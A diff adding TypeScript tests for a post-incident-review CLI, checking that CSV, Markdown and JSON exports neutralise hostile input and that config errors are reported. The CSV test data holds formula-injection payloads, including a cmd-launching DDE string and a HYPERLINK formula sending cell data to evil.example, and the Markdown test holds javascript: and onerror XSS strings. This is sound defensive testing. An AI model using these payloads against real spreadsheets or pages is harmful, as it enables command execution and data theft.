@@ -10,6 +10,8 @@ import * as os from 'node:os';
 import * as path from 'node:path';
 import { analyze, fixText, parseReview, summarize, type Finding } from '../../src/core';
 import { main } from '../../src/cli/main';
+import { actionsToCsv, actionsToJson, actionsToMarkdown, toExported } from '../../src/core/export/actions';
+import { parseConfig } from '../../src/core';
 
 function cli(args: string[], cwd: string) {
   let out = '', err = '';
@@ -220,5 +222,69 @@ describe('hostile input: fixes never break the file', () => {
     const r = cli(['lint', '--fix', file], tmp);
     const ids = parseReview(fs.readFileSync(file, 'utf8')).actions.map(a => a.id);
     assert.deepEqual(ids, ['CAP-1', 'CAP-3'], r.out);
+  });
+});
+
+describe('hostile input: exports', () => {
+  const action = (title: string, owner = '@ana') => ({ id: 'CAP-1', title, status: 'open' as const, owner, due: '', type: '', domain: '', validation: '', tracking: '', evidence: '', depends: '', line: 0, overdue: false, review: 'INC-1', reviewTitle: '', file: 'a.pir.md' });
+  const csvCell = (title: string, owner?: string) => {
+    const csv = actionsToCsv(toExported([action(title, owner)]));
+    // the title column, as a spreadsheet reads it back (csv-stringify quotes; undo that)
+    const row = csv.split('\n')[1];
+    return /^CAP-1,("(?:[^"]|"")*"|[^,]*),/.exec(row)![1].replace(/^"|"$/g, '').replace(/""/g, '"');
+  };
+
+  it('CSV neutralises every cell a spreadsheet would evaluate, and leaves plain numbers and text alone', () => {
+    for (const evil of ["-1+cmd|' /C calc'!A0", '-0+HYPERLINK("https://evil.example/?x="&A1,"click")', '=1+1', '+1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', '＝1+1', '＋1', '－1+1', '＠SUM(1)', ' =1+1']) {
+      assert.equal(csvCell(evil), `'${evil}`, JSON.stringify(evil));
+    }
+    for (const fine of ['-1', '+2.5', '1e3', 'Cap restarts at -1 per minute', 'CAP-7', '2026-03-01']) assert.equal(csvCell(fine), fine, fine);
+    const owner = actionsToCsv(toExported([action('x', '@platform-team')]));
+    assert.match(owner, /,'@platform-team,/);
+  });
+
+  it('Markdown cells show their text as written: no links, images, HTML or broken rows', () => {
+    const md = actionsToMarkdown(toExported([action('[click](javascript:alert(1)) <img src=x onerror=alert(1)> a | b\nnext *row*')]));
+    const row = md.split('\n')[2];
+    assert.ok(!/(^|[^\\])[[<]/.test(row.replace(/^\| /, '')), row);
+    assert.equal(md.trim().split('\n').length, 3, 'one row');
+    assert.match(row, /\\\[click\\\]\\\(javascript:alert\\\(1\\\)\\\) \\<img/);
+  });
+
+  it('JSON keeps every string exactly (escaping is JSON.stringify\'s)', () => {
+    const title = '"quoted" \\ back \u2028 line \u0000 nul </script>';
+    assert.equal(JSON.parse(actionsToJson(toExported([action(title)])))[0].title, title);
+  });
+});
+
+describe('hostile input: .pir.yaml and the CLI', () => {
+  it('unknown rule ids, invalid zones and unknown keys are findings on their line, with the closest valid name', () => {
+    const { config, findings } = parseConfig('rules:\n  vague-actions: off\n  no-such-check: warning\nrequiredRole: [scribe]\ndefaultTimezone: Europe/Berln\n');
+    const byLine = findings.map(f => [f.range.start.line, f.message]);
+    assert.deepEqual(byLine.map(x => x[0]).sort(), [1, 2, 3, 4]);
+    assert.match(String(byLine.find(x => x[0] === 1)![1]), /"vague-actions" is not a rule.*Did you mean "vague-action"\?/);
+    assert.doesNotMatch(String(byLine.find(x => x[0] === 2)![1]), /Did you mean/);
+    assert.match(String(byLine.find(x => x[0] === 3)![1]), /Unknown setting "requiredRole".*Did you mean "requiredRoles"\?/);
+    assert.match(String(byLine.find(x => x[0] === 4)![1]), /"Europe\/Berln" is not a time zone.*Did you mean "Europe\/Berlin"\?/);
+    assert.equal(config.defaultTimezone, undefined);
+    assert.deepEqual(config.rules, {});
+    assert.match(parseConfig('defaultTimezone: IST\n').findings[0].message, /ambiguous/);
+    assert.deepEqual(parseConfig('defaultTimezone: Europe/Berlin\nrules:\n  vague-action: off\n').findings, []);
+  });
+
+  it('a missing --config file is one line on stderr, exit code 2', () => {
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'pir-hostile-'));
+    try {
+      fs.writeFileSync(path.join(dir, 'a.pir.md'), `---\n${FM}---\n# T\n`);
+      for (const args of [['lint', '--config', 'nope.yaml', 'a.pir.md'], ['report', '--config', 'nope.yaml', 'a.pir.md']]) {
+        const r = cli(args, dir);
+        assert.equal(r.code, 2, args.join(' '));
+        assert.equal(r.err.trim().split('\n').length, 1, r.err);
+        assert.match(r.err, /^pir: Cannot read the configuration file .*nope\.yaml: no such file\.\n$/);
+      }
+      const r = cli(['actions', '--output', path.join(dir, 'missing', 'out.csv'), '--format', 'csv', 'a.pir.md'], dir);
+      assert.equal(r.code, 2);
+      assert.match(r.err, /^pir: .*out\.csv: no such file or directory\n$/);
+    } finally { fs.rmSync(dir, { recursive: true, force: true }); }
   });
 });
